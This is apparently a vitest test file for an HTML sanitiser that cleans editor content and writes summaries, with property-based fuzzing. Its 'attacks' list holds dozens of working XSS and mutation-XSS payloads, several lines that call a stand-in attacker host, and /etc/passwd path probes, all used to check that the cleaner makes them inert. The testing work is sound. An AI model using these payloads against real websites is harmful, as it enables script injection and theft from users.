import { createRequire } from 'node:module'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanContent, cleanDescription, cleanText, summarise } from '#server/html/cleanContent.ts'
import { anyText } from '#tests/support/anyText.ts'

// The parser that the cleaner uses.
const { Parser } = createRequire(createRequire(import.meta.url).resolve('sanitize-html'))('htmlparser2')

const clean = (html: string) => cleanText(html).html
const uploaded = '/uploads/2026/a.webp'
const png = 'data:image/png;base64,iVBORw0KGgo='

interface Element {
  name: string
  attributes: Record<string, string>
}
function elementsOf(html: string): Element[] {
  const elements: Element[] = []
  const parser = new Parser({ onopentag: (name: string, attributes: Element['attributes']) => elements.push({ name, attributes }) })
  parser.end(html)
  return elements
}

/** What may remain, written independently: a mistake in the allow list must not go unnoticed. */
const harmless: Record<string, Record<string, RegExp>> = {
  ...Object.fromEntries(
    'br hr strong b em i u s sub sup blockquote ul li figure figcaption table caption thead tbody tfoot tr'.split(' ').map((tag) => [tag, {}]),
  ),
  ...Object.fromEntries(['p', 'h2', 'h3', 'h4'].map((tag) => [tag, { style: /^text-align:(left|right|center|justify)$/ }])),
  ...Object.fromEntries(
    ['th', 'td'].map((tag) => [tag, { style: /^text-align:(left|right|center|justify)$/, colspan: /^\d{1,4}$/, rowspan: /^\d{1,4}$/ }]),
  ),
  a: { href: /^(https?:\/\/[^/\s]|mailto:|\/(?![/\\]))/i, rel: /^noopener$/, target: /^_blank$/ },
  ol: { start: /^\d{1,4}$/ },
  img: {
    src: /^(\/uploads\/[\w./-]+|data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+)$/,
    alt: /^/,
    width: /^\d{1,4}$/,
    height: /^\d{1,4}$/,
    loading: /^lazy$/,
  },
}
function expectHarmless(html: string) {
  for (const { name, attributes } of elementsOf(html)) {
    const allowed = harmless[name]
    expect(allowed, `<${name}> in ${html}`).toBeDefined()
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(allowed?.[attribute], `${attribute} of <${name}> in ${html}`).toBeDefined()
      expect(value).toMatch(allowed?.[attribute] as RegExp)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers leave them out of an address
      if (attribute === 'href' || attribute === 'src') expect(value).not.toMatch(/[\u0000-\u001F\u007F]/)
    }
  }
}

describe('the summary of a text', () => {
  test('begins with its running text', () => {
    expect(summarise('<h2>标题</h2><p>正文。</p><blockquote><p>引文</p></blockquote><hr><p>本文仅供参考。</p>')).toBe('正文。')
    expect(summarise('<p>上文。</p><hr /><p>下文一。</p><p>下文二。</p>')).toBe('上文。下文一。下文二。')
  })
  test('ends before a list, below sentences that are long enough', () => {
    const sentence = `${'先看上文'.repeat(10)}。`
    expect(summarise(`<p>${sentence}再记三件事：</p><ul><li>一</li></ul><p>下文。</p>`)).toBe(sentence)
    expect(summarise(`<p>“${sentence}”</p><ol><li>一</li></ol>`)).toBe(`“${sentence}”`)
    expect(summarise('<p>设有以下门诊。</p><ul><li>骨科</li></ul><p>预约电话 010-0000 3101。</p>')).toBe(
      '设有以下门诊。骨科 预约电话 010-0000 3101。',
    )
  })
  test('is that of the list without a sentence above it', () => {
    expect(summarise('<p>三件事：</p><ul><li>一</li><li>二</li></ul>')).toBe('三件事：一 二')
    expect(summarise('<ol><li>一。</li></ol><p>下文。</p>')).toBe('一。下文。')
  })
})

describe('a text from an editor', () => {
  test('keeps headings, lists, tables, quotes, links, pictures and alignment', () => {
    const html = [
      '<h2 style="text-align:center">标题</h2>',
      '<p><strong>重</strong><em>点</em><u>线</u><s>删</s>H<sub>2</sub>O</p>',
      '<blockquote><p>引用</p></blockquote>',
      '<ul><li><p>一</p></li></ul><ol><li><p>二</p></li></ol><hr />',
      '<table><tbody><tr><th colspan="2"><p>表</p></th></tr><tr><td><p>甲</p></td><td rowspan="3"><p>乙</p></td></tr></tbody></table>',
      '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener" target="_blank">外</a><a href="/layout/index">内</a><a href="mailto:a@example.com">信</a></p>',
      `<figure><img src="${uploaded}" alt="图" width="960" height="540" loading="lazy" /><figcaption>说明</figcaption></figure>`,
      `<p><img src="${png}" alt="" loading="lazy" /></p>`,
    ].join('')
    expect(cleanText(html)).toMatchObject({ html, pictureKeys: ['2026/a.webp'] })
  })

  test('keeps the number at which a list starts', () => {
    expect(clean('<ol start="3"><li><p>三</p></li></ol>')).toBe('<ol start="3"><li><p>三</p></li></ol>')
    expect(clean('<ol start="0x3" type="a" reversed><li><p>一</p></li></ol>')).toBe('<ol><li><p>一</p></li></ol>')
  })

  test('is converted to our tags', () => {
    expect(clean('<h1>一</h1><h6>六</h6><div>甲</div><div>乙<p>丙</p></div><p><span style="color:red">丁</span></p><del>戊</del>')).toBe(
      '<h2>一</h2><h4>六</h4><p>甲</p><p>乙</p><p>丙</p><p>丁</p><s>戊</s>',
    )
  })

  test('pasted from Word loses what only Word understands', () => {
    const word = `<html xmlns:o="urn:x"><head><style>p.MsoNormal{mso-style-name:x}</style></head><body><!--[if gte mso 9]><xml><o:x/></xml><![endif]-->
      <p class="MsoNormal" style="mso-pagination:widow-orphan;text-align:right"><span lang="EN-US">正文<o:p></o:p></span></p></body></html>`
    expect(clean(word)).toBe('<p style="text-align:right">正文</p>')
  })

  test('lists each picture once, however often it appears', () => {
    const { pictureKeys } = cleanText(
      `<p>文</p><img src="${uploaded}"><img alt="x" src="${uploaded}"><img src="/uploads/2026/b.png"><img src="${png}">`,
    )
    expect(pictureKeys).toEqual(['2026/a.webp', '2026/b.png'])
  })
})

describe('the summary', () => {
  test('is the first 120 characters of the text, without headings, captions, tables, quotes and layout', () => {
    const table = '<table><tbody><tr><td><p>格</p></td></tr></tbody></table>'
    const others = `${table}<blockquote><p>仅供参考</p></blockquote><figure><figcaption>图注</figcaption></figure>`
    expect(cleanText(`<h2>标题</h2><p>甲 &lt;b&gt; &amp;amp; 乙</p>${others}<p>丙</p>`).summary).toBe('甲 <b> &amp; 乙 丙')
    expect(cleanText('<p>头一句。</p><p>第二句<br />接着</p><p>“引文”</p>').summary).toBe('头一句。第二句 接着 “引文”')
    expect(cleanText(`<p>${'文'.repeat(120)}</p>`).summary).toBe('文'.repeat(120))
    expect(cleanText(`<p>${'文'.repeat(121)}</p>`).summary).toBe(`${'文'.repeat(120)}…`)
  })
  test('splits no character', () => {
    expect(cleanText(`<p>${'𠮷'.repeat(130)}</p>`).summary).toBe(`${'𠮷'.repeat(120)}…`)
  })
  test('uses all text if there is no running text, and is empty if there are only pictures', () => {
    expect(cleanText('<h2>标题</h2>').summary).toBe('标题')
    expect(cleanText(`<img src="${uploaded}">`).summary).toBe('')
  })
})

describe('a text without visible content', () => {
  for (const html of [
    '<p></p>',
    '<p>&nbsp;</p>',
    '<script>alert(1)</script>',
    '<img src="https://example.com/a.png">',
    '<p>\u200B</p>',
    '<style>x</style>',
  ]) {
    test(`is rejected where a text is required: ${html}`, async () => {
      await expect(cleanContent(html)).rejects.toThrow('内容不可以为空！')
      expect(await cleanDescription(html)).toEqual({ html: '', summary: '', pictureKeys: [] })
    })
  }
})

describe('pictures', () => {
  const inline = (bytes: number) => `<img src="data:image/png;base64,${Buffer.alloc(bytes, 1).toString('base64')}">`
  test('of up to 5,120 bytes may be embedded; larger ones must be uploaded', () => {
    expect(clean(inline(5120))).toContain('data:image/png')
    expect(() => clean(`<p>文</p>${inline(5121)}`)).toThrow('图片过大，请用上传的方式插入')
  })
  for (const src of [
    'https://example.com/a.png',
    '//example.com/a.png',
    '/uploads/../etc/passwd',
    '/uploads/a.webp?x=1',
    '/api/ZhuJingBanXieHui/Logout',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'data:text/html;base64,PGI+',
    'data:image/png,rohe',
    'javascript:alert(1)',
    'blob:https://example.com/1',
    '',
  ]) {
    test(`from any other source are left out: ${src}`, () => expect(clean(`<p>文<img src="${src}" alt="x"></p>`)).toBe('<p>文</p>'))
  }
})

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt/x src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  `<img src="${uploaded}" onerror=alert(1) onload=alert(1)>`,
  `<img src="${uploaded}" srcset="https://evil.example/a 1x" style="background:url(javascript:alert(1))">`,
  `<img src="${uploaded}"alt="x"onerror="alert(1)">`,
  `<img src="${uploaded}" alt='"><script>alert(1)</script>'>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://example.com" target="top" rel="opener" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><p title="</iframe><img src onerror=alert(1)>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example";</style>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="text-align:center;position:fixed;inset:0;text-align:expression(1)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<ol start="3;x" style="list-style:url(https://evil.example/a)" onclick=alert(1)><li value="9">x</li></ol>',
  '<form action="https://evil.example"><input name=pwd><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<p id="__proto__" name="cookie" class="modal" data-x="1" contenteditable onfocus=alert(1) autofocus>x</p>',
  '<table background="javascript:alert(1)"><td background="x" colspan="99999999">x</td></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p><img/src/onerror=alert(1)>',
  '<p title="`<img src=x onerror=alert(1)>`">x</p>',
  '<a href="https://example.com/"><a href="javascript:alert(1)">x</a></a>',
]
describe('an attack is inert', () => {
  for (const attack of attacks) {
    test(attack, () => {
      const html = clean(`<p>前</p>${attack}<p>后</p>`)
      expect(html).toContain('前')
      expectHarmless(html)
      expect(html).not.toMatch(/<[^>]*(onerror|onload|evil\.example)/i)
    })
  }

  test('at any depth, and in one long tangle', () => {
    for (const html of [
      '<div>'.repeat(20_000),
      '<blockquote>'.repeat(20_000),
      '<p><b><i>'.repeat(20_000),
      '<'.repeat(100_000),
      '<a <a '.repeat(20_000),
    ]) {
      try {
        expectHarmless(clean(`<p>文</p>${html}`))
      } catch (error) {
        expect(error).toMatchObject({ kind: 'refused' })
      }
    }
  })
})

test('a text with more tags than any text needs is rejected', () => {
  expect(() => clean('<br>'.repeat(20_000))).toThrow('内容的格式过于复杂，请清除格式后重试')
  expect(clean(`<p>文</p>${'<br>'.repeat(19_000)}`)).toContain('文')
})

describe('for any input', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...attacks,
      '<p>',
      '</p>',
      '<div>',
      '</div>',
      '<h1>',
      '</h1>',
      '<li>',
      '<td>',
      '<table>',
      '</table>',
      '<a href="/x">',
      '</a>',
      '<b>',
      '</b>',
    ),
    fc.constantFrom('<img src="/uploads/a.webp">', '<!--', '-->', '<![CDATA[', ']]>', '</script>', '"', "'", '&lt;', '&amp;lt;', '&#60;', '<', '>'),
    anyText(20),
  )
  const anything = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))
  const cleaned = (html: string) => {
    try {
      return clean(html)
    } catch (error) {
      // HTML made to change with every cleaning is rejected, which is harmless too.
      expect(error).toMatchObject({ kind: 'refused' })
      return ''
    }
  }

  test('only allowed markup is left', () => {
    fc.assert(
      fc.property(anything, (html) => expectHarmless(cleaned(html))),
      { numRuns: 500 },
    )
  })
  test('cleaning is idempotent', () => {
    fc.assert(
      fc.property(anything, (html) => {
        const once = cleaned(html)
        expect(cleaned(once)).toBe(once)
      }),
      { numRuns: 500 },
    )
  })
})
